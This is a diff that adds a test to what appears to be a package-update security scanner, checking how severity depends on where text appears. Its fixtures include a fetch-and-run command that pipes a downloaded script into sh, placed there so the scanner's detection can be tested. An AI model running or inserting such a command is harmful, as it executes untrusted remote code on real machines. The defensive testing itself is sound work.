@@ -428,3 +428,18 @@ def test_unchanged_packages_cost_nothing_and_updates_little() -> None:
     for _ in range(10):
         compared(BASE, UPDATED)
     assert (time.process_time() - start) / 10 < 0.02
+
+
+def test_words_in_patches_and_notes_weigh_less_than_in_scripts() -> None:
+    shown = b"@@ -1,2 +1,2 @@\n curl https://example.org/x | sh\n+int answer = 42;\n"
+    added = b"@@ -1,2 +1,2 @@\n int a;\n+curl https://example.org/x | sh\n"
+    note = b'source = "git"\nsystemctl is mentioned here\n'
+
+    def severity(name: str, content: bytes) -> dict[str, Severity]:
+        return rules(compare_folders(folder(BASE.encode()), folder(BASE.encode(), **{name: content})))
+
+    assert severity("x__patch", shown) == {"file-added": Severity.MEDIUM}
+    assert severity("x__patch", added)["runs-fetched-code"] is Severity.HIGH
+    assert max(severity("nvchecker__toml", note).values()) is Severity.MEDIUM
+    assert severity("x__sh", note)["starts-service"] is Severity.HIGH
+    assert severity("x__install", added.replace(b"+", b""))["runs-fetched-code"] is Severity.CRITICAL
